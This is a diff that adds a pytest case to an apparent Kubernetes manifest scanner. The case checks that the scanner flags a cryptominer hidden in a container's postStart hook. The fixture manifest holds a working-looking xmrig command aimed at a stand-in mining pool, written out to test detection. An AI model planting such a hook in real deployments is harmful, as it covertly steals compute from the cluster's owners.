@@ -137,3 +137,34 @@ def test_unknown_subcommands_and_missing_paths_are_usage_errors() -> None:
     assert "unknown command 'nope'" in result.stderr
     assert run().returncode == 2
     assert run("/nonexistent/x.yaml").returncode == 2
+
+
+def test_a_miner_in_a_post_start_hook_of_a_manifest_is_denied_naming_the_hook(
+    tmp_path: Path,
+) -> None:
+    manifest = tmp_path / "deploy.yaml"
+    manifest.write_text(
+        """\
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web, namespace: shop}
+spec:
+  template:
+    spec:
+      containers:
+        - name: web
+          image: nginx:1.27
+          command: [nginx, -g, daemon off;]
+          lifecycle:
+            postStart:
+              exec:
+                command: [sh, -c, "xmrig -o stratum+tcp://pool.example:3333 &"]
+          readinessProbe: {exec: {command: [cat, /tmp/healthy]}}
+""",
+        encoding="utf-8",
+    )
+    result = run(str(manifest))
+    assert result.returncode == 1
+    assert 'container "web" lifecycle.postStart exec would run a cryptominer' in result.stdout
+    payload = json.loads(run("--output", "json", str(manifest)).stdout)
+    assert [f["origin"] for f in payload[0]["findings"]] == ["lifecycle.postStart"]
